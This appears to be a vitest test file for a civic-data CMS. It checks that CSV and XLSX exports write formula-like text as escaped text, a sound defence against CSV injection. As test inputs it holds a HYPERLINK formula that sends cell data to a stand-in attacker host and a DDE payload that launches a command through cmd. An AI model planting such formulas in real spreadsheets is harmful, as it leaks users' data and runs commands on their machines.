/**
 * Files that spreadsheet programs open (the open-data CSVs, the instrument export, the measurement
 * template) never carry a cell that would run as a formula: a council's text that starts with
 * `=`, `+`, `-`, `@`, a tab or a carriage return is written as text (OWASP's CSV-injection guidance),
 * while numbers stay numbers. Each test opens the written file as a reader would, with exceljs.
 */
import { randomUUID } from 'node:crypto'
import fs from 'node:fs/promises'
import path from 'node:path'
import { Readable } from 'node:stream'

import ExcelJS from 'exceljs'
import type { Payload } from 'payload'
import { beforeAll, describe, expect, it } from 'vitest'

import { COLLECTIONS } from '../../cms/constants.ts'
import { buildSnapshot } from '../../cms/snapshot/index.ts'
import { callApi, tokenOf } from '../helpers/api.ts'
import { buildFixture, type Fixture, indicatorData, instrumentData } from '../helpers/fixture.ts'
import { temporaryCopiesOf } from '../helpers/files.ts'
import { testPayload } from '../helpers/payload.ts'

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'

let payload: Payload
let fixture: Fixture

beforeAll(async () => {
  payload = await testPayload()
  fixture = await buildFixture(payload)
})

/** The rows of a CSV file as a spreadsheet reader sees them, every cell as the text it holds. */
async function csvRows(text: string): Promise<string[][]> {
  const sheet = await new ExcelJS.Workbook().csv.read(Readable.from([text]), { map: (value: unknown) => value })
  const rows: string[][] = []
  sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1).map((value) => String(value ?? ''))))
  return rows
}

/** The rows of the first sheet of an XLSX file, each cell's value as exceljs reads it. */
async function xlsxRows(data: ArrayBuffer | Buffer, sheetName?: string): Promise<ExcelJS.CellValue[][]> {
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(data as ArrayBuffer)
  const sheet = sheetName ? workbook.getWorksheet(sheetName) : workbook.worksheets[0]
  const rows: ExcelJS.CellValue[][] = []
  sheet?.eachRow((row) => rows.push((row.values as ExcelJS.CellValue[]).slice(1)))
  return rows
}

const column = (rows: string[][], name: string) => rows[0].indexOf(name)

describe("the open data's measurements.csv", () => {
  it('writes a formula a council typed as text, and a negative value as a number', async () => {
    const indicator = await payload.create({
      collection: COLLECTIONS.indicators,
      data: { ...indicatorData(fixture.programs.publicA), allowNegative: true },
    })
    const formula = await payload.create({
      collection: COLLECTIONS.measurements,
      data: { indicator: indicator.id, year: 2021, value: 5, source: FORMULA },
      user: fixture.users.councilA,
      overrideAccess: false,
    })
    const negative = await payload.create({
      collection: COLLECTIONS.measurements,
      data: { indicator: indicator.id, year: 2022, value: -12.5, source: '-Dinas Lingkungan Hidup' },
    })
    const dir = path.join(process.env.PANTAU_SCRATCH_DIR as string, 'snapshot-formulas')
    await buildSnapshot(payload, { dir })

    const rows = await csvRows(await fs.readFile(path.join(dir, 'measurements.csv'), 'utf8'))
    const row = (id: number) => rows.find((cells) => cells[column(rows, 'id')] === String(id)) as string[]
    expect(row(formula.id)[column(rows, 'source')]).toBe(`'${FORMULA}`)
    expect(row(negative.id)[column(rows, 'source')]).toBe("'-Dinas Lingkungan Hidup")
    expect(row(negative.id)[column(rows, 'value')]).toBe('-12.5')
    expect(Number(row(negative.id)[column(rows, 'value')])).toBe(-12.5)
  })
})

describe('the instrument export', () => {
  let instrumentId: number
  let token: string

  // Its own title in every run: the import's check below looks for this upload's bytes.
  const TITLE = `+Instrumen rumus ${randomUUID()}`

  beforeAll(async () => {
    const data = instrumentData(fixture.dimension)
    data.sections[0].questions[0] = { ...data.sections[0].questions[0], text: '@SUM(1+1)*cmd|" /C calc"!A0' }
    const instrument = await payload.create({
      collection: COLLECTIONS.instruments,
      data: { ...data, title: TITLE, evaluationDimensions: [{ key: 'output', name: '-Output', weight: 40 }, { key: 'outcome', name: 'Outcome', weight: 60 }] },
    })
    instrumentId = instrument.id
    token = await tokenOf(payload, fixture.users.secretariat)
  })

  it('writes formula-like text as text in the CSV, and weights as numbers', async () => {
    const response = await callApi('GET', `/instruments/${instrumentId}/export?format=csv`, { token })
    const cells = (await csvRows(response.body.toString('utf8'))).flat()
    expect(cells).toContain(`'@SUM(1+1)*cmd|" /C calc"!A0`)
    expect(cells).toContain(`'${TITLE}`)
    expect(cells).toContain("'-Output")
    expect(cells).toContain('40')
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d/.test(cell))).toEqual([])
  })

  it('writes formula-like text as text in the XLSX, and weights as numbers', async () => {
    const response = await callApi('GET', `/instruments/${instrumentId}/export?format=xlsx`, { token })
    const questions = (await xlsxRows(response.body, 'questions')).flat()
    const settings = (await xlsxRows(response.body, 'settings')).flat()
    expect(questions).toContain(`'@SUM(1+1)*cmd|" /C calc"!A0`)
    expect(settings).toContain("'-Output")
    expect(settings).toContain(40)
    expect([...questions, ...settings].some((cell) => typeof cell === 'object' && cell !== null && 'formula' in cell)).toBe(false)
  })

  it.each(['csv', 'xlsx'] as const)('imports its own %s export back with the original text, and keeps no copy of the upload', async (format) => {
    const response = await callApi('GET', `/instruments/${instrumentId}/export?format=${format}`, { token })
    const form = new FormData()
    form.append('file', new Blob([new Uint8Array(response.body)]), `instrumen.${format}`)
    const imported = await callApi('POST', '/instruments/import', { token, form })
    expect(imported.status).toBe(201)
    // Payload writes the upload to its temporary folder (useTempFiles); the import removes it.
    expect(await temporaryCopiesOf(payload, response.body)).toBe(0)
    const doc = await payload.findByID({ collection: COLLECTIONS.instruments, id: imported.body.id, depth: 0 })
    expect(doc.sections?.[0]?.questions?.[0]?.text).toBe('@SUM(1+1)*cmd|" /C calc"!A0')
    expect(doc.evaluationDimensions?.[0]?.name).toBe('-Output')
  })
})

describe('the measurement template', () => {
  it("writes a programme's formula-like names as text", async () => {
    const program = await payload.create({
      collection: COLLECTIONS.programs,
      data: { title: 'Program rumus', slug: `program-rumus-${Date.now()}`, city: fixture.cityA.id, dimension: fixture.dimension.id, agency: 'Dinas', status: 'ongoing', startYear: 2020 },
    })
    await payload.create({ collection: COLLECTIONS.indicators, data: { ...indicatorData(program), name: FORMULA, unit: '=1+1' } })
    const token = await tokenOf(payload, fixture.users.councilA)
    const response = await callApi('GET', `/measurements/template?program=${program.id}&year=2023`, { token })
    expect(response.status).toBe(200)
    const rows = await xlsxRows(response.body)
    const cells = rows.slice(1).flat()
    expect(cells).toContain(`'${FORMULA}`)
    expect(cells).toContain("'=1+1")
    expect(cells.some((cell) => typeof cell === 'string' && /^[=+\-@]/.test(cell))).toBe(false)
  })
})
